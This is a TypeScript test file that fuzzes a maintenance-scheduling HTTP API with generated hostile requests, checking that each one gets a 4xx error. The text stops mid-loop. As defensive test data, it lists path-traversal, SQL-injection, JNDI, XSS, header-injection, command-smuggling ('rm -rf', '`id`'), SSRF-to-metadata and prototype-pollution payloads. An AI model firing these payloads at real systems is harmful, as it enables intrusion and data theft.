import http from 'node:http';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fenixTimeIn, startTestRuntime, type TestRuntime } from '../helpers/runtime.js';

/**
 * Hostile input (issue 4, item 6): hundreds of generated bad requests over every route, sent as raw
 * HTTP (node:http, not fetch, so paths such as `/../` and `%2e%2e` reach the server unnormalised).
 * Every one must get a 4xx with the `{"error","message"}` body, none a 5xx or a dropped connection,
 * and afterwards the table, the events and the executions must be exactly as before.
 */

const inventory = {
  hosts: [
    { name: 'c-1', type: 'compute', vcpus: 8 },
    { name: 'c-2', type: 'compute', vcpus: 8 },
    { name: 'c-3', type: 'compute', vcpus: 8 },
    { name: 'ctl-1', type: 'controller' },
  ],
  instances: [
    { id: 'a-1', name: 'a-1', project_id: 'alpha', host: 'c-1', vcpus: 1 },
    { id: 'b-1', name: 'b-1', project_id: 'beta', host: 'c-1', vcpus: 1 },
    { id: 'a-2', name: 'a-2', project_id: 'alpha', host: 'c-3', vcpus: 1 },
  ],
};

let fx: TestRuntime;
let sessionId: string;
beforeAll(async () => {
  // A long reply window: the session stays parked on its MAINTENANCE round for the whole file.
  fx = await startTestRuntime({ inventory, env: { FENIX_PROJECT_MAINTENANCE_REPLY: '900' } });
  const created = await fx.api('POST', '/v1/maintenance', {
    state: 'MAINTENANCE',
    maintenance_at: fenixTimeIn(3600),
    hosts: ['c-1'],
  });
  expect(created.status).toBe(200);
  sessionId = created.body.session_id;
  for (const project of ['alpha', 'beta']) {
    await fx.waitForEvent(
      (e) =>
        e['detail-type'] === 'maintenance.scheduled' &&
        e.detail.session_id === sessionId &&
        e.detail.project_id === project,
    );
  }
});
/** Totals over the file, printed as one line at the end. */
const tally = { requests: 0, fiveXx: 0, dropped: 0, ms: 0, statuses: new Map<number, number>() };
afterAll(async () => {
  const statuses = [...tally.statuses]
    .sort(([a], [b]) => a - b)
    .map(([status, n]) => `${status}×${n}`)
    .join(' ');
  console.log(
    `hostile-input: ${tally.requests} requests, ${tally.fiveXx} 5xx, ${tally.dropped} dropped, ${tally.ms} ms (${statuses})`,
  );
  await fx?.stop();
});
const record = (status: number | undefined) => {
  tally.requests++;
  if (status === undefined) tally.dropped++;
  else {
    if (status >= 500) tally.fiveXx++;
    tally.statuses.set(status, (tally.statuses.get(status) ?? 0) + 1);
  }
};

const dump = () => fx.dumpTable();

// ------------------------------------------------------------------------------------ raw client

interface Case {
  name: string;
  method: string;
  path: string;
  body?: string | Buffer;
  headers?: Record<string, string>;
  /** An exact status, where the contract names one (413 over the cap, 401 without a token). */
  status?: number;
}
type Outcome = { status: number; headers: http.IncomingHttpHeaders; text: string } | { error: string };

const agent = new http.Agent({ keepAlive: true, maxSockets: 16 });

const send = (c: Case): Promise<Outcome> =>
  new Promise((resolve) => {
    const url = new URL(fx.url);
    const headers: Record<string, string> = { ...c.headers };
    if (c.body !== undefined) headers['content-length'] = String(Buffer.byteLength(c.body));
    const request = http.request(
      { host: url.hostname, port: url.port, method: c.method, path: c.path, headers, agent },
      (response) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () =>
          resolve({
            status: response.statusCode ?? 0,
            headers: response.headers,
            text: Buffer.concat(chunks).toString('utf8'),
          }),
        );
        response.on('error', (error) => resolve({ error: String(error) }));
      },
    );
    request.setTimeout(15_000, () => request.destroy(new Error('timed out')));
    request.on('error', (error) => resolve({ error: String(error) }));
    if (c.body !== undefined) request.write(c.body);
    request.end();
  });

/** Runs `cases` with modest concurrency, in order of submission. */
const sendAll = async (cases: Case[], concurrency = 16): Promise<Outcome[]> => {
  const outcomes: Outcome[] = new Array(cases.length);
  let next = 0;
  const worker = async () => {
    while (next < cases.length) {
      const index = next++;
      outcomes[index] = await send(cases[index] as Case);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, worker));
  return outcomes;
};

/** What is wrong with an outcome, or undefined when it is a proper 4xx in the error shape. */
const problem = (c: Case, outcome: Outcome): string | undefined => {
  if ('error' in outcome) return `no answer (${outcome.error})`;
  if (outcome.status >= 500) return `${outcome.status} ${outcome.text.slice(0, 200)}`;
  if (outcome.status < 400) return `accepted with ${outcome.status}: ${outcome.text.slice(0, 200)}`;
  if (c.status !== undefined && outcome.status !== c.status)
    return `${outcome.status} instead of ${c.status}: ${outcome.text.slice(0, 200)}`;
  if (c.method === 'HEAD') return undefined; // no body to check
  if (!String(outcome.headers['content-type'] ?? '').startsWith('application/json'))
    return `${outcome.status} without a JSON content-type`;
  let body: unknown;
  try {
    body = JSON.parse(outcome.text);
  } catch {
    return `${outcome.status} with a non-JSON body: ${outcome.text.slice(0, 200)}`;
  }
  const keys = body && typeof body === 'object' ? Object.keys(body).sort().join(',') : '';
  const { error, message } = (body ?? {}) as { error?: unknown; message?: unknown };
  if (keys !== 'error,message' || typeof error !== 'string' || typeof message !== 'string' || !error || !message) {
    return `${outcome.status} with body ${outcome.text.slice(0, 200)}`;
  }
  // 5xx never leaks internals, and neither may a 4xx echo a stack.
  if (/\bat .+\.(ts|js):\d+/.test(message)) return `message leaks a stack: ${message.slice(0, 200)}`;
  return undefined;
};

// ------------------------------------------------------------------------------- the generator

const JSON_TYPE = { 'content-type': 'application/json' };
const MB = 1024 * 1024;

/** Ids that are neither a UUID nor a valid name: traversal, injection, NUL, odd unicode, malformed escapes. */
const HOSTILE_IDS = [
  '..%2f',
  '..%2fx',
  '%2e%2e%2f',
  '%2e%2e%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%2e%2e%5c',
  '....%2f%2f',
  '..;',
  "'%20OR%201=1--",
  "1'%20OR%20'1'='1",
  '%27%20OR%20%271%27%3D%271',
  '%22%3B%20DROP%20TABLE%20fenix%3B--',
  '${7*7}',
  '%24%7Bjndi%3Aldap%3A%2F%2Fx%7D',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%00',
  'a%00b',
  '%0d%0aSet-Cookie:x=1',
  '%E0%A4%A',
  '%',
  '%zz',
  '%C0%AE%C0%AE%2F',
  '%ED%A0%80',
  '%ED%B0%80x',
  '%E2%80%AEalpha',
  '%E2%80%8Falpha',
  '%F0%9F%92%A9',
  '%EF%BB%BFalpha',
  '%20alpha',
  'alpha%20',
  'alpha%0a',
  'SESSION%23x',
  'PROJECT%23alpha%23ROUND',
  '*',
  '%2A',
  '[object%20Object]',
  '%7B%22%24gt%22%3A%22%22%7D',
  '%3B%20rm%20-rf%20%2F',
  '%60id%60',
  '|id',
  'x'.repeat(5000),
];
/** Valid names that are not UUIDs: a session route must refuse them (400 or 404). */
const NOT_UUIDS = ['null', 'undefined', '0', '-1', 'alpha', 'latest', 'detail', 'NaN', 'true'];

/** Valid create body on a free host: each mutation below must make it invalid. */
const createBase = () => ({ state: 'MAINTENANCE', maintenance_at: fenixTimeIn(3600), hosts: ['c-2'] });
const replyBase = () => ({ state: 'ACK_MAINTENANCE' });
const simCreateBase = () => ({ name: 'vm', project_id: 'alpha', vcpus: 1 });
/** Valid constraint bodies for an admin (alpha's instance a-2; group g-1, not stored): each mutation below must be refused. */
const instanceConstraintBase = () => ({ project_id: 'alpha', migration_type: 'MIGRATE', lead_time: 40 });
const groupConstraintBase = () => ({ project_id: 'alpha', anti_affinity_group: true, max_instances_per_host: 1 });

/** Values that are wrong wherever a string (or list, or object) is expected. */
const WRONG_TYPES: unknown[] = [null, 0, -1, 1.5, true, false, [], {}, [null], { $gt: '' }];
const ODD_STRINGS = [
  '',
  ' ',
  '\u0000',
  'x\u0000y',
  '\ud800',
  '\udfff\ud800',
  '\u202eevil',
  '\u200f',
  '\ufeff',
  '💩',
  '👨‍👩‍👧‍👦',
  '../../etc/passwd',
  '%2e%2e%2f',
  "' OR 1=1 --",
  '${jndi:ldap://evil/x}',
  '<script>alert(1)</script>',
  '\r\nX-Injected: 1',
  'x'.repeat(100_000),
];

const mutations = (base: Record<string, unknown>, fields: Record<string, unknown[]>): Record<string, unknown>[] =>
  Object.entries(fields).flatMap(([field, values]) => values.map((value) => ({ ...base, [field]: value })));

const createBodies = (): unknown[] => [
  ...mutations(createBase(), {
    state: [
      ...WRONG_TYPES,
      ...ODD_STRINGS,
      'maintenance',
      'MAINTENANCE ',
      'MAINTENANCE\u0000',
      'SCALE_IN',
      'MAINTENANCE_DONE',
      '\u202eMAINTENANCE',
    ],
    maintenance_at: [
      ...WRONG_TYPES,
      ...ODD_STRINGS,
      1_700_000_000,
      'tomorrow',
      '2025-13-40 25:61:61',
      '0000-00-00 00:00:00',
      '2026-02-31 10:00:00',
      `${fenixTimeIn(3600)}\u0000`,
      `${fenixTimeIn(3600)}' OR 1=1`,
      [fenixTimeIn(3600)],
    ],
    hosts: [
      null,
      'c-2',
      1,
      {},
      [1],
      [null],
      [{}],
      [['c-2']],
      ...ODD_STRINGS.map((s) => [s]),
      ['c-2', 'c-2'],
      ['c 2'],
      ['c-2\u0000'],
      ['no-such-host'],
      ['x'.repeat(300)],
      Array.from({ length: 5001 }, (_, i) => `h-${i}`),
    ],
    workflow: [...WRONG_TYPES, 'k8s', 'VNF', 'DEFAULT', 'default\u0000', '../default', 'x'.repeat(100_000)],
    metadata: [null, [], 'text', 1, true, { big: 'x'.repeat(9000) }, { ['k'.repeat(300)]: 1 }],
    actions: [
      'dummy',
      {},
      [null],
      [{}],
      [{ plugin: 'dummy' }],
      [{ type: 'pre' }],
      [{ plugin: 'dummy', type: 'bogus' }],
      [{ plugin: 'not-installed', type: 'pre' }],
      [{ plugin: 'DUMMY', type: 'pre' }],
      [{ plugin: '../dummy', type: 'pre' }],
      [{ plugin: 'dummy\u0000', type: 'pre' }],
      [{ plugin: 'dummy', type: 'pre', extra: true }],
      [{ plugin: 'dummy', type: 'pre', metadata: [] }],
      Array.from({ length: 101 }, () => ({ plugin: 'dummy', type: 'pre' })),
    ],
    policy: [
      ...WRONG_TYPES.filter((value) => JSON.stringify(value) !== '{}'),
      { on_no_reply: 'IGNORE' },
      { on_no_reply: 'fail' },
      { default_action: 'OWN_ACTION' },
      { default_action: 'TELEPORT' },
      { projects: { alpha: { interacting: 'yes' } } },
      { projects: { alpha: { colour: 'red' } } },
      { projects: { '../alpha': {} } },
      { projects: [] },
      { extra: 1 },
    ],
    download: [
      ...WRONG_TYPES.filter((value) => JSON.stringify(value) !== '[]'),
      'file',
      [1],
      [{}],
      ['x'.repeat(3000)],
      ['ftp://mirror.example.org/fw.bin'],
      ['http://mirror.example.org/fw.bin'],
      ['https://127.0.0.1/fw.bin'],
      ['https://localhost/fw.bin'],
      ['https://[::1]/fw.bin'],
      ['https://169.254.169.254/latest/meta-data/iam'],
      ['https://user:pw@mirror.example.org/fw.bin'],
      ['https://mirror.example.org/'],
      ['not a url'],
      [`https://mirror.example.org/${'x'.repeat(3000)}`],
      [{ url: 'https://mirror.example.org/fw.bin', sha256: 'abc' }],
      [{ url: 'https://mirror.example.org/fw.bin', name: '../fw.bin' }],
      [{ url: 'https://mirror.example.org/fw.bin', extra: 1 }],
      ['https://10.0.0.1/a.bin', 'https://10.0.0.2/a.bin'],
      Array.from({ length: 101 }, (_, i) => `https://mirror.example.org/${i}.bin`),
    ],
    // Extra and look-alike fields.
    extra: [1, null, 'x'],
    session_id: ['00000000-0000-4000-8000-000000000000'],
    STATE: ['MAINTENANCE'],
    '': [1],
    'state\u0000': ['MAINTENANCE'],
    constructor: [{}],
    prototype: [{}],
  }),
  { maintenance_at: fenixTimeIn(3600), hosts: ['c-2'] },
  { state: 'MAINTENANCE', hosts: ['c-2'] },
  {},
  [],
  [createBase()],
  'MAINTENANCE',
  0,
  true,
];

const replyBodies = (): unknown[] => [
  ...mutations(replyBase(), {
    state: [
      ...WRONG_TYPES,
      ...ODD_STRINGS,
      'ACK',
      'ACK_',
      'ack_maintenance',
      'ACK_MAINTENANCE ',
      'ACK_MAINTENANCE\u0000',
      'YES_MAINTENANCE',
      'ACK_MAINTENANCE_DONE',
      'ACK_UNKNOWN',
      '\u202eACK_MAINTENANCE',
      ['ACK_MAINTENANCE'],
    ],
    instance_actions: [
      null,
      [],
      'MIGRATE',
      1,
      { 'a-1': 'TELEPORT' },
      { 'a-1': null },
      { 'a-1': 1 },
      { 'a-1': ['MIGRATE'] },
      { 'a-1': 'migrate' },
      { 'a-1': 'MIGRATE' }, // no actions are allowed in MAINTENANCE
      { 'b-1': 'MIGRATE' }, // beta's instance
      { 'no-such-vm': 'MIGRATE' },
      { '../a-1': 'MIGRATE' },
      { '': 'MIGRATE' },
      { 'a-1\u0000': 'MIGRATE' },
      { '\ud800': 'MIGRATE' },
      { ['x'.repeat(200)]: 'MIGRATE' },
      { "' OR 1=1": 'EVICTION' },
    ],
    extra: [1],
    project_id: ['beta'],
    replied_by: ['someone-else'],
    session_id: ['00000000-0000-4000-8000-000000000000'],
  }),
  { instance_actions: {} },
  {},
  [],
  ['ACK_MAINTENANCE'],
  'ACK_MAINTENANCE',
  null,
];

/** PUT /v1/maintenance/{s} continues a failed session; the live one is not, so even a valid body is refused. */
const updateBodies = (): unknown[] => [
  ...mutations(
    { state: 'SCALE_IN' },
    {
      state: [
        ...WRONG_TYPES,
        ...ODD_STRINGS,
        'scale_in',
        'MAINTENANCE_DONE',
        'MAINTENANCE_FAILED',
        'SCALE_IN\u0000',
        ['SCALE_IN'],
      ],
      maintenance_at: [...WRONG_TYPES, 'tomorrow', '2026-02-31 10:00:00', 'x'.repeat(100_000)],
      metadata: [null, [], 'text', { big: 'x'.repeat(9000) }],
      extra: [1],
      session_id: ['00000000-0000-4000-8000-000000000000'],
    },
  ),
  {},
  [],
  null,
];

const simCreateBodies = (): unknown[] => [
  ...mutations(simCreateBase(), {
    name: [...WRONG_TYPES, '', 'x'.repeat(300)],
    project_id: [...WRONG_TYPES, ...ODD_STRINGS],
    vcpus: [...WRONG_TYPES, 0, -5, 2.5, '1', 1e9, Number.MAX_SAFE_INTEGER],
    host: [...WRONG_TYPES, '', '../c-2', 'c-2\u0000', 'no-such-host', '<script>'],
    extra: [1],
  }),
  {},
  [],
  null,
];

/** Wrong wherever a whole number of seconds (or null) is expected. */
const BAD_SECONDS: unknown[] = [-1, 1.5, '40', 86_401, 1e9, true, [], {}, Number.MAX_SAFE_INTEGER];
const notNull = (values: unknown[]) => values.filter((value) => value !== null);

const instanceConstraintBodies = (): unknown[] => [
  ...mutations(instanceConstraintBase(), {
    migration_type: [...notNull(WRONG_TYPES), ...ODD_STRINGS, 'migrate', 'MIGRATION', 'TELEPORT', 'MIGRATE\u0000'],
    lead_time: BAD_SECONDS,
    max_interruption_time: BAD_SECONDS,
    resource_mitigation: [null, 0, 1, 'true', [], {}],
    group_id: [...notNull(WRONG_TYPES), ...ODD_STRINGS, 'g 1', 'x'.repeat(200)],
    instance_name: [
      ...WRONG_TYPES,
      '\u0000',
      'x\u0000y',
      '\ud800',
      '\udfff\ud800',
      '\r\nX-Injected: 1',
      'x'.repeat(300),
    ],
    instance_id: ['a-1', 'b-1', '', null, 1],
    project_id: ['beta', '', null, 1, '../alpha', 'ALPHA'],
    extra: [1],
    constructor: [{}],
    '': [1],
  }),
  { migration_type: 'MIGRATE' }, // an admin must name the project
  [],
  null,
  'MIGRATE',
  0,
];

const groupConstraintBodies = (): unknown[] => [
  ...mutations(groupConstraintBase(), {
    anti_affinity_group: [null, 0, 1, 'true', [], {}],
    max_instances_per_host: [-1, 1.5, '1', 10_001, null, true, []],
    max_impacted_members: [0, -1, 1.5, '1', 10_001, null, true],
    recovery_time: [...BAD_SECONDS, null],
    group_name: [...WRONG_TYPES, '\u0000', '\ud800', 'x'.repeat(300)],
    resource_mitigation: [null, 'yes'],
    group_id: ['g-2', '', null, 1],
    project_id: ['', null, 1, '../alpha'],
    members: [['a-2']],
    extra: [1],
  }),
  { anti_affinity_group: true }, // an admin must name the project
  [],
  null,
  true,
];

/** Raw texts that are not one valid JSON document (or are JSON no route accepts). */
const INVALID_JSON = [
  '{',
  '}',
  '[',
  '{"state":}',
  '{"state":"MAINTENANCE",}',
  "{'state':'MAINTENANCE'}",
  '{state:"MAINTENANCE"}',
  '{"state":"MAINTENANCE"',
  '{"state":"MAINTENANCE"}garbage',
  '{"state":"MAINTENANCE"}{"state":"MAINTENANCE"}',
  '{"state":NaN}',
  '{"state":undefined}',
  '{"a":"\\uZZZZ"}',
  '{"a":"\u0000"}',
  '{"a\u0000":1}',
  '\u0000',
  '\ufeff{"state":"ACK_MAINTENANCE"}',
  '/* comment */ {}',
  '{"state":"ACK_MAINTENANCE"} // trailing',
  'undefined',
  'NaN',
  '-',
  '01',
  ' ',
  '\n\t',
  '<?xml version="1.0"?><state>MAINTENANCE</state>',
  'state=MAINTENANCE&maintenance_at=2030-01-01+00%3A00%3A00',
  `{"a":${'1'.repeat(1000)}e999999}`,
];

/** Prototype pollution attempts: own `__proto__` keys, as JSON.parse makes them. */
const PROTO = [
  '{"__proto__":{"admin":true}}',
  '{"state":"ACK_MAINTENANCE","__proto__":{"instance_actions":{"a-1":"EVICTION"}}}',
  '{"constructor":{"prototype":{"admin":true}},"state":"ACK_MAINTENANCE"}',
];

const DUPLICATE_KEYS = [
  '{"state":"ACK_MAINTENANCE","state":"NACK_MAINTENANCE"}',
  '{"state":"ACK_MAINTENANCE","instance_actions":{"a-1":"MIGRATE","a-1":"EVICTION"}}',
  '{"state":"ACK_MAINTENANCE","instance_actions":{},"instance_actions":{}}',
  '{"state":"ACK_MAINTENANCE","st\\u0061te":"NACK_MAINTENANCE"}',
];

const nested = (depth: number, open: string, close: string, inner = '1') =>
  open.repeat(depth) + inner + close.repeat(depth);
const DEEP = [nested(33, '[', ']'), nested(1000, '[', ']'), nested(100_000, '[', ']', ''), nested(1000, '{"a":', '}')];
const deepIn = (base: Record<string, unknown>, field: string, depth: number) =>
  JSON.stringify({ ...base, [field]: '__DEEP__' }).replace('"__DEEP__"', nested(depth, '{"k":', '}'));

const WRONG_CONTENT_TYPES = [
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json-patch+json',
  'application/jsonx',
  'text/json',
  'application/octet-stream',
  'image/png',
];

const json = (value: unknown) => JSON.stringify(value);

/** Every route served, with bodies where the route takes one. `s` is the live session. */
const routes = (s: string) => {
  const project = `/v1/maintenance/${s}/alpha`;
  return {
    create: { method: 'POST', path: '/v1/maintenance' },
    list: { method: 'GET', path: '/v1/maintenance' },
    get: { method: 'GET', path: `/v1/maintenance/${s}` },
    remove: { method: 'DELETE', path: `/v1/maintenance/${s}` },
    project: { method: 'GET', path: project },
    reply: { method: 'PUT', path: project },
    update: { method: 'PUT', path: `/v1/maintenance/${s}` },
    updatePost: { method: 'POST', path: `/v1/maintenance/${s}` },
    detail: { method: 'GET', path: `/v1/maintenance/${s}/detail` },
    openapi: { method: 'GET', path: '/v1/openapi.json' },
    simHosts: { method: 'GET', path: '/sim/v1/hosts' },
    simList: { method: 'GET', path: '/sim/v1/instances' },
    simCreate: { method: 'POST', path: '/sim/v1/instances' },
    simDelete: { method: 'DELETE', path: '/sim/v1/instances/a-2' },
    simMove: { method: 'POST', path: '/sim/v1/instances/a-2/move' },
    instancePut: { method: 'PUT', path: '/v1/instance/a-2' },
    instanceGet: { method: 'GET', path: '/v1/instance/a-2' },
    instanceDelete: { method: 'DELETE', path: '/v1/instance/a-2' },
    groupPut: { method: 'PUT', path: '/v1/instance_group/g-1' },
    groupGet: { method: 'GET', path: '/v1/instance_group/g-1' },
    groupDelete: { method: 'DELETE', path: '/v1/instance_group/g-1' },
  };
};

const generate = (s: string, tokens: { admin: string; alpha: string; beta: string }): Case[] => {
  const r = routes(s);
  const admin = { authorization: `Bearer ${tokens.admin}` };
  const alpha = { authorization: `Bearer ${tokens.alpha}` };
  const beta = { authorization: `Bearer ${tokens.beta}` };
  const cases: Case[] = [];
  const add = (name: string, c: Omit<Case, 'name'>) => cases.push({ name, ...c, headers: { ...admin, ...c.headers } });
  const withSlash = (path: string) => (path.includes('?') ? path : `${path}/`);
  const all = Object.entries(r);
  const bodyRoutes = [r.create, r.reply, r.update, r.updatePost, r.simCreate, r.instancePut, r.groupPut];
  const goodReply = json(replyBase());

  // 1. Bodies with wrong types, nulls, huge and odd strings, extra and missing fields (both path forms).
  for (const [route, bodies] of [
    [r.create, createBodies()],
    [r.reply, replyBodies()],
    [r.update, updateBodies()],
    [r.updatePost, updateBodies()],
    [r.simCreate, simCreateBodies()],
    [r.instancePut, instanceConstraintBodies()],
    [r.groupPut, groupConstraintBodies()],
  ] as const) {
    bodies.forEach((body, i) => {
      add(`body #${i} ${route.method} ${route.path}`, { ...route, body: json(body), headers: JSON_TYPE });
      if (i % 4 === 0)
        add(`body #${i} ${route.method} ${route.path}/`, {
          ...route,
          path: withSlash(route.path),
          body: json(body),
          headers: JSON_TYPE,
        });
    });
  }
  for (const host of [1, '', '../c-2', 'no-such-host', '\ud800', 'x'.repeat(300), null]) {
    add(`move to ${String(host).slice(0, 20)}`, { ...r.simMove, body: json({ host }), headers: JSON_TYPE });
  }
  add('move with an extra field', { ...r.simMove, body: json({ host: 'c-2', extra: 1 }), headers: JSON_TYPE });
  add('move with a list', { ...r.simMove, body: '[]', headers: JSON_TYPE });

  // 2. Not JSON, duplicate keys, deep nesting: on every route that reads a body.
  for (const route of [...bodyRoutes, r.simMove]) {
    for (const text of [...INVALID_JSON, ...DEEP])
      add(`invalid JSON ${text.slice(0, 20)} on ${route.method} ${route.path}`, {
        ...route,
        body: text,
        headers: JSON_TYPE,
      });
    for (const text of PROTO)
      add(`prototype keys on ${route.method} ${route.path}`, { ...route, body: text, headers: JSON_TYPE });
    for (const text of DUPLICATE_KEYS)
      add(`duplicate keys on ${route.method} ${route.path}`, { ...route, body: text, headers: JSON_TYPE });
  }
  const proto = json(createBase()).replace('{', '{"__proto__":{"admin":true},');
  add('prototype key in a valid create', { ...r.create, body: proto, headers: JSON_TYPE });
  add('deep metadata', { ...r.create, body: deepIn(createBase(), 'metadata', 40), headers: JSON_TYPE });
  add('deep instance_actions', { ...r.reply, body: deepIn(replyBase(), 'instance_actions', 40), headers: JSON_TYPE });
  // Raw bytes that are not UTF-8 (a lone surrogate encoded as CESU-8, an overlong dot).
  for (const bytes of [[0xed, 0xa0, 0x80], [0xc0, 0xae], [0xff, 0xfe], [0x80]]) {
    const body = Buffer.concat([Buffer.from('{"state":"ACK_MAINTENANCE'), Buffer.from(bytes), Buffer.from('"}')]);
    add(`invalid UTF-8 ${bytes.join(',')}`, { ...r.reply, body, headers: JSON_TYPE });
    add(`invalid UTF-8 ${bytes.join(',')} on create`, {
      ...r.create,
      body: Buffer.concat([
        Buffer.from(json(createBase()).slice(0, -1)),
        Buffer.from(',"x'),
        Buffer.from(bytes),
        Buffer.from('":1}'),
      ]),
      headers: JSON_TYPE,
    });
  }

  // 3. Wrong content types around an otherwise valid body.
  for (const type of WRONG_CONTENT_TYPES) {
    add(`${type} on create`, { ...r.create, body: json(createBase()), headers: { 'content-type': type } });
    add(`${type} on reply`, { ...r.reply, body: json(replyBase()), headers: { 'content-type': type } });
    add(`${type} on sim create`, { ...r.simCreate, body: json(simCreateBase()), headers: { 'content-type': type } });
    add(`${type} on sim move`, { ...r.simMove, body: '{}', headers: { 'content-type': type } });
  }
  add('form-encoded create', {
    ...r.create,
    body: 'state=MAINTENANCE&hosts=c-2',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  });

  // 4. A body where none is taken (GET and DELETE), including on the live session.
  for (const route of [
    r.list,
    r.get,
    r.remove,
    r.project,
    r.detail,
    r.openapi,
    r.instanceGet,
    r.instanceDelete,
    r.groupGet,
    r.groupDelete,
  ]) {
    for (const body of ['{}', 'null', '[]', '"x"', '{"state":"MAINTENANCE"}', '{', ' ']) {
      add(`body on ${route.method} ${route.path}`, { ...route, body, headers: JSON_TYPE });
    }
    add(`text body on ${route.method} ${route.path}`, {
      ...route,
      body: 'hello',
      headers: { 'content-type': 'text/plain' },
    });
  }

  // Query strings: refused where a route takes none, checked where it does (the detail view's pages).
  for (const route of [
    r.create,
    r.list,
    r.get,
    r.remove,
    r.project,
    r.reply,
    r.openapi,
    r.instanceGet,
    r.groupDelete,
  ]) {
    for (const query of ['debug=true', 'session_id=x', '__proto__=1', '%zz=%zz', 'a=%00']) {
      const body = route === r.create ? json(createBase()) : route === r.reply ? goodReply : undefined;
      add(`?${query} on ${route.method} ${route.path}`, {
        ...route,
        path: `${route.path}?${query}`,
        body,
        headers: body ? JSON_TYPE : {},
      });
    }
  }
  for (const query of [
    'instances_limit=abc',
    'instances_limit=0',
    'instances_limit=1001',
    'instances_limit=-1',
    'instances_limit=1.5',
    'instances_limit=%00',
    'instances_limit=1e400',
    'history_limit=',
    'history_next=..%2f..%2f',
    'history_next=%ED%A0%80',
    `instances_next=${'A'.repeat(3000)}`,
    'history_next=%3Cscript%3E',
    'unknown=1',
    '__proto__=x',
  ]) {
    add(`detail ?${query.slice(0, 30)}`, { ...r.detail, path: `${r.detail.path}?${query}` });
  }

  // 5. Over the caps: above API Gateway's 1 MB on every route (413), above the handlers' cap on the API.
  for (const [, route] of all) {
    for (const size of [MB + 1, 2 * MB]) {
      const body = json({ pad: 'x'.repeat(size) });
      add(`${size} bytes on ${route.method} ${route.path}`, { ...route, body, headers: JSON_TYPE, status: 413 });
    }
    add(`1 MB of spaces on ${route.method} ${route.path}/`, {
      ...route,
      path: withSlash(route.path),
      body: ' '.repeat(MB + 10),
      headers: JSON_TYPE,
      status: 413,
    });
  }
  for (const route of [r.create, r.reply, r.update, r.updatePost]) {
    const base = route === r.create ? createBase() : route === r.reply ? replyBase() : { state: 'SCALE_IN' };
    const padded = json({ ...base, metadata: { pad: 'x'.repeat(300 * 1024) } });
    add(`300 KB on ${route.method} ${route.path}`, { ...route, body: padded, headers: JSON_TYPE, status: 413 });
  }

  // 6. Hostile ids in every path position.
  for (const id of [...HOSTILE_IDS, ...NOT_UUIDS]) {
    add(`GET session ${id.slice(0, 30)}`, { method: 'GET', path: `/v1/maintenance/${id}` });
    add(`GET session ${id.slice(0, 30)}/`, { method: 'GET', path: `/v1/maintenance/${id}/` });
    add(`DELETE session ${id.slice(0, 30)}`, { method: 'DELETE', path: `/v1/maintenance/${id}` });
    add(`GET ${id.slice(0, 30)}/alpha`, { method: 'GET', path: `/v1/maintenance/${id}/alpha` });
    add(`GET ${id.slice(0, 30)}/detail`, { method: 'GET', path: `/v1/maintenance/${id}/detail` });
    add(`PUT session ${id.slice(0, 30)}`, {
      method: 'PUT',
      path: `/v1/maintenance/${id}`,
      body: json({ state: 'SCALE_IN' }),
      headers: JSON_TYPE,
    });
    add(`PUT ${id.slice(0, 30)}/alpha`, {
      method: 'PUT',
      path: `/v1/maintenance/${id}/alpha`,
      body: goodReply,
      headers: JSON_TYPE,
    });
  }
  for (const id of HOSTILE_IDS) {
    add(`GET s/${id.slice(0, 30)}`, { method: 'GET', path: `/v1/maintenance/${s}/${id}` });
    add(`PUT s/${id.slice(0, 30)}`, {
      method: 'PUT',
      path: `/v1/maintenance/${s}/${id}`,
      body: goodReply,
      headers: JSON_TYPE,
    });
    add(`PUT s/${id.slice(0, 30)} as alpha`, {
      method: 'PUT',
      path: `/v1/maintenance/${s}/${id}`,
      body: goodReply,
      headers: { ...JSON_TYPE, ...alpha },
    });
    add(`sim list ?project_id=${id.slice(0, 30)}`, { method: 'GET', path: `/sim/v1/instances?project_id=${id}` });
    for (const base of ['/v1/instance', '/v1/instance_group']) {
      add(`GET ${base}/${id.slice(0, 30)}`, { method: 'GET', path: `${base}/${id}` });
      add(`DELETE ${base}/${id.slice(0, 30)}`, { method: 'DELETE', path: `${base}/${id}` });
      add(`PUT ${base}/${id.slice(0, 30)}`, {
        method: 'PUT',
        path: `${base}/${id}`,
        body: json(base === '/v1/instance' ? instanceConstraintBase() : groupConstraintBase()),
        headers: JSON_TYPE,
      });
    }
    add(`sim delete ${id.slice(0, 30)}`, { method: 'DELETE', path: `/sim/v1/instances/${id}` });
    add(`sim move ${id.slice(0, 30)}`, {
      method: 'POST',
      path: `/sim/v1/instances/${id}/move`,
      body: '{}',
      headers: JSON_TYPE,
    });
  }
  // Traversal that would land on another route once normalised.
  for (const path of [
    `/v1/maintenance/${s}/../../../etc/passwd`,
    `/v1/maintenance/${s}/%2e%2e/%2e%2e/%2e%2e/etc/passwd`,
    `/v1/maintenance/../../sim/v1/nothing`,
    '/v1/maintenance/%2e%2e%2f%2e%2e%2fsim%2fv1%2fhosts',
    '/../../../../etc/passwd',
    '//v1/maintenance/x',
    '/v1//maintenance',
    '/v1/maintenance//',
    '/v1/maintenance/;/x',
    '/V1/MAINTENANCE',
    '/v1/maintenance%2f',
    '/v2/maintenance',
    '/sim/v1/hosts/x',
    '/sim/v1/instances/a-2/move/x',
    '/sim/v2/hosts',
  ]) {
    add(`GET ${path}`, { method: 'GET', path });
  }
  // A session id that is almost right.
  for (const variant of [
    s.toUpperCase(),
    s.slice(0, -1),
    `${s}0`,
    s.replace(/-/g, ''),
    `{${s}}`,
    `${s}%00`,
    `${s}%20`,
    `urn:uuid:${s}`,
  ]) {
    add(`GET ${variant}`, { method: 'GET', path: `/v1/maintenance/${variant}` });
    add(`PUT ${variant}/alpha`, {
      method: 'PUT',
      path: `/v1/maintenance/${variant}/alpha`,
      body: goodReply,
      headers: JSON_TYPE,
    });
  }

  // 7. Unknown or unserved methods on every path (HEAD has no body to check).
  for (const [, route] of all) {
    for (const method of ['PATCH', 'OPTIONS', 'PROPFIND', 'MKCOL', 'LOCK', 'SEARCH', 'PURGE', 'COPY', 'HEAD'].filter(
      (m) => m !== route.method,
    )) {
